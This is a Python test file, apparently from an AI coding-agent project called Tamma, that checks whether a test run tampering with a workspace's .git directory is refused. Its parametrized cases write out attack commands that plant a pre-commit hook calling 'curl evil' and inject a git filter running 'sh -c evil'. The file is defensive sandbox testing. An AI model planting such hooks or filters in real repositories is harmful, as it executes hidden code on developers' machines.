"""Even where the sandbox cannot make .git read-only (backend none), code that changes .git
during a test run is caught before Tamma commits anything from that workspace."""

from __future__ import annotations

from pathlib import Path

import pytest

from tamma.activities.issue import _TestRunner
from tamma.agent.workspace import Workspace
from tamma.config import Settings
from tamma.demo import make_sample_repo
from tamma.errors import SandboxError
from tamma.platforms.local import local_repo_ref
from tamma.runtime.wiring import build_activities


@pytest.mark.parametrize(
    "attack",
    [
        "mkdir -p .git/hooks && printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit",
        "printf '[filter \"x\"]\\n\\tclean = sh -c evil\\n' >> .git/config",
        "mkdir -p .git/info && echo '* filter=x' > .git/info/attributes",
    ],
)
async def test_a_test_run_that_changes_git_is_refused(settings: Settings, tmp_path: Path, attack: str) -> None:
    repo = make_sample_repo(tmp_path / "repo")
    s = settings.model_copy(
        update={
            "agent": settings.agent.model_copy(
                update={
                    "test_command": f"{attack}; python3 -m unittest",
                    "sandbox": settings.agent.sandbox.model_copy(update={"backend": "none"}),
                }
            )
        }
    )
    activities = build_activities(s)
    ws = await Workspace.clone(str(repo), "main", tmp_path / "work")
    with pytest.raises(SandboxError, match=r"changed the workspace's \.git"):
        await _TestRunner(activities, local_repo_ref(repo), ws, "main")()


async def test_an_honest_test_run_passes_the_check(settings: Settings, tmp_path: Path) -> None:
    repo = make_sample_repo(tmp_path / "repo")
    ws = await Workspace.clone(str(repo), "main", tmp_path / "work")
    result = await _TestRunner(build_activities(settings), local_repo_ref(repo), ws, "main")()
    assert "Ran 2 tests" in result.output
